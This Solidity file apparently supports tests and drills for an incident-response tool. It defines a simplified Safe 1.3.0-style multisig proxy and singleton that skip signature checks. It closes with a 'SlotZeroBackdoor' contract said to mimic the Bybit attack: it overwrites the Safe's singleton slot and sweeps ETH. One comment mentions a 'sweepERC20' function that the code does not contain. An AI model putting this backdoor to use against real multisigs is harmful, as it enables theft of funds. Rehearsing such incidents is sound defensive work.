// SPDX-License-Identifier: Apache-2.0
pragma solidity ^0.8.20;

// A Safe-like multisig for irctl's tests, sandboxes and drills: the storage layout, EIP-712
// hashing and view functions of Safe 1.3.0 that `safe.snapshot` and `safe verify` rely on,
// with approvals by `approveHash` (or the executing owner) instead of ECDSA signatures and
// no gas refunds.  Not for funds: it exists to rehearse and test incident response.

/// The proxy every Safe is: storage slot 0 holds the singleton, every call is delegated to it.
contract SafeLikeProxy {
    address internal singleton;

    constructor(address singleton_) {
        singleton = singleton_;
    }

    fallback() external payable {
        assembly {
            let target := and(sload(0), 0xffffffffffffffffffffffffffffffffffffffff)
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), target, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }
}

/// The singleton (master copy): the Safe's logic, run in the proxy's storage.
contract SafeLike {
    string public constant VERSION = "1.3.0";

    // keccak256("EIP712Domain(uint256 chainId,address verifyingContract)")
    bytes32 private constant DOMAIN_SEPARATOR_TYPEHASH =
        0x47e79534a245952e8b16893a336b85a3d9ea9fa8c573f3d803afb92a79469218;
    // keccak256("SafeTx(address to,uint256 value,bytes data,uint8 operation,uint256 safeTxGas,
    //            uint256 baseGas,uint256 gasPrice,address gasToken,address refundReceiver,uint256 nonce)")
    bytes32 private constant SAFE_TX_TYPEHASH =
        0xbb8310d486368db6bd6f849402fdd73ad53d316b5a4b2644ad6efe0f941286d8;
    // keccak256("guard_manager.guard.address")
    bytes32 internal constant GUARD_STORAGE_SLOT =
        0x4a204f620c8c5ccdca3fd54d003badd85ba500436a431f0cbda4f558c93c34c8;
    // keccak256("fallback_manager.handler.address")
    bytes32 internal constant FALLBACK_HANDLER_STORAGE_SLOT =
        0x6c9a6c4a39284e37ed1cf53d337577d14212a4870fb976a4366c693b939918d5;
    address internal constant SENTINEL = address(0x1);

    // The layout of Safe 1.3.0: slot 0 singleton, 1 modules, 2 owners, 3 ownerCount,
    // 4 threshold, 5 nonce, 6 (deprecated domain separator), 7 signedMessages, 8 approvedHashes.
    address internal singleton;
    mapping(address => address) internal modules;
    mapping(address => address) internal owners;
    uint256 internal ownerCount;
    uint256 internal threshold;
    uint256 public nonce;
    bytes32 private deprecatedDomainSeparator;
    mapping(bytes32 => uint256) public signedMessages;
    mapping(address => mapping(bytes32 => uint256)) public approvedHashes;

    // As every Safe since 1.0.0 emits them (payment is always 0 here: no gas refunds)
    event ExecutionSuccess(bytes32 txHash, uint256 payment);
    event ExecutionFailure(bytes32 txHash, uint256 payment);
    event ApproveHash(bytes32 indexed approvedHash, address indexed owner);
    // As Safe 1.3.0's OwnerManager, ModuleManager, GuardManager and FallbackManager emit them,
    // and 1.1.1's MasterCopy (what irctl watch looks for)
    event AddedOwner(address owner);
    event RemovedOwner(address owner);
    event ChangedThreshold(uint256 threshold);
    event EnabledModule(address module);
    event ChangedGuard(address guard);
    event ChangedFallbackHandler(address handler);
    event ChangedMasterCopy(address masterCopy);

    constructor() {
        threshold = 1; // the singleton itself can never be set up
    }

    modifier authorized() {
        require(msg.sender == address(this), "GS031");
        _;
    }

    function setup(address[] calldata owners_, uint256 threshold_, address fallbackHandler)
        external
    {
        require(threshold == 0, "GS200");
        require(threshold_ > 0 && threshold_ <= owners_.length, "GS201");
        address current = SENTINEL;
        for (uint256 i = 0; i < owners_.length; i++) {
            address owner = owners_[i];
            require(owner != address(0) && owner != SENTINEL && owner != address(this), "GS203");
            require(owners[owner] == address(0), "GS204");
            owners[current] = owner;
            current = owner;
        }
        owners[current] = SENTINEL;
        ownerCount = owners_.length;
        threshold = threshold_;
        modules[SENTINEL] = SENTINEL;
        _store(FALLBACK_HANDLER_STORAGE_SLOT, fallbackHandler);
    }

    // --- hashing, as Safe 1.3.0 ---------------------------------------------------------

    function domainSeparator() public view returns (bytes32) {
        return keccak256(abi.encode(DOMAIN_SEPARATOR_TYPEHASH, block.chainid, address(this)));
    }

    function getTransactionHash(
        address to, uint256 value, bytes calldata data, uint8 operation, uint256 safeTxGas,
        uint256 baseGas, uint256 gasPrice, address gasToken, address refundReceiver,
        uint256 nonce_
    ) public view returns (bytes32) {
        bytes32 message = keccak256(abi.encode(
            SAFE_TX_TYPEHASH, to, value, keccak256(data), operation, safeTxGas, baseGas,
            gasPrice, gasToken, refundReceiver, nonce_
        ));
        return keccak256(abi.encodePacked(bytes1(0x19), bytes1(0x01), domainSeparator(), message));
    }

    // --- approving and executing ---------------------------------------------------------

    function approveHash(bytes32 hashToApprove) external {
        require(owners[msg.sender] != address(0), "GS030");
        approvedHashes[msg.sender][hashToApprove] = 1;
        emit ApproveHash(hashToApprove, msg.sender);
    }

    function execTransaction(
        address to, uint256 value, bytes calldata data, uint8 operation, uint256 safeTxGas,
        uint256 baseGas, uint256 gasPrice, address gasToken, address refundReceiver
    ) external payable returns (bool success) {
        require(gasPrice == 0, "refunds are not supported");
        bytes32 txHash = getTransactionHash(
            to, value, data, operation, safeTxGas, baseGas, gasPrice, gasToken, refundReceiver,
            nonce
        );
        nonce++;
        uint256 approvals = 0;
        for (address owner = owners[SENTINEL]; owner != SENTINEL; owner = owners[owner]) {
            if (owner == msg.sender || approvedHashes[owner][txHash] != 0) approvals++;
        }
        require(approvals >= threshold, "GS020");
        if (operation == 1) {
            (success, ) = to.delegatecall(data);
        } else {
            (success, ) = to.call{value: value}(data);
        }
        // As Safe: a failed inner call reverts the whole transaction unless safeTxGas was set;
        // then the nonce is used and ExecutionFailure says so.
        require(success || safeTxGas != 0, "GS013");
        if (success) emit ExecutionSuccess(txHash, 0);
        else emit ExecutionFailure(txHash, 0);
    }

    // --- owners, threshold, modules, guard, fallback handler -----------------------------

    function getOwners() external view returns (address[] memory array) {
        array = new address[](ownerCount);
        uint256 index = 0;
        for (address owner = owners[SENTINEL]; owner != SENTINEL; owner = owners[owner]) {
            array[index++] = owner;
        }
    }

    function getThreshold() external view returns (uint256) {
        return threshold;
    }

    function isOwner(address owner) external view returns (bool) {
        return owner != SENTINEL && owners[owner] != address(0);
    }

    function addOwnerWithThreshold(address owner, uint256 threshold_) external authorized {
        require(owner != address(0) && owner != SENTINEL && owner != address(this), "GS203");
        require(owners[owner] == address(0), "GS204");
        owners[owner] = owners[SENTINEL];
        owners[SENTINEL] = owner;
        ownerCount++;
        emit AddedOwner(owner);
        if (threshold != threshold_) _changeThreshold(threshold_);
    }

    function swapOwner(address prevOwner, address oldOwner, address newOwner) external authorized {
        require(newOwner != address(0) && newOwner != SENTINEL && newOwner != address(this), "GS203");
        require(owners[newOwner] == address(0), "GS204");
        require(oldOwner != address(0) && oldOwner != SENTINEL, "GS203");
        require(owners[prevOwner] == oldOwner, "GS205");
        owners[newOwner] = owners[oldOwner];
        owners[prevOwner] = newOwner;
        owners[oldOwner] = address(0);
        emit RemovedOwner(oldOwner);
        emit AddedOwner(newOwner);
    }

    function changeThreshold(uint256 threshold_) external authorized {
        _changeThreshold(threshold_);
    }

    function _changeThreshold(uint256 threshold_) internal {
        require(threshold_ > 0 && threshold_ <= ownerCount, "GS201");
        threshold = threshold_;
        emit ChangedThreshold(threshold_);
    }

    function enableModule(address module) external authorized {
        require(module != address(0) && module != SENTINEL, "GS101");
        require(modules[module] == address(0), "GS102");
        modules[module] = modules[SENTINEL];
        modules[SENTINEL] = module;
        emit EnabledModule(module);
    }

    function getModulesPaginated(address start, uint256 pageSize)
        external view returns (address[] memory array, address next)
    {
        array = new address[](pageSize);
        uint256 count = 0;
        next = modules[start];
        while (next != address(0) && next != SENTINEL && count < pageSize) {
            array[count++] = next;
            next = modules[next];
        }
        assembly { mstore(array, count) }
    }

    function setGuard(address guard) external authorized {
        _store(GUARD_STORAGE_SLOT, guard);
        emit ChangedGuard(guard);
    }

    function setFallbackHandler(address handler) external authorized {
        _store(FALLBACK_HANDLER_STORAGE_SLOT, handler);
        emit ChangedFallbackHandler(handler);
    }

    /// Safe 1.1.1's upgrade path: slot 0 to another singleton, announced
    function changeMasterCopy(address masterCopy) external authorized {
        require(masterCopy != address(0), "Invalid master copy address provided");
        assembly { sstore(0, masterCopy) }
        emit ChangedMasterCopy(masterCopy);
    }

    function _store(bytes32 slot, address value) internal {
        assembly { sstore(slot, value) }
    }

    receive() external payable {}
}

/// What the Bybit attacker's contract did: a `transfer(address,uint256)` that, delegatecalled by
/// a Safe, writes its first argument into storage slot 0 (the singleton); then `sweepETH` and
/// `sweepERC20` move everything out once the Safe delegates to this contract.
contract SlotZeroBackdoor {
    function transfer(address recipient, uint256 /* amount */) external {
        assembly { sstore(0, recipient) }
    }

    function sweepETH(address payable destination) external {
        destination.transfer(address(this).balance);
    }
}
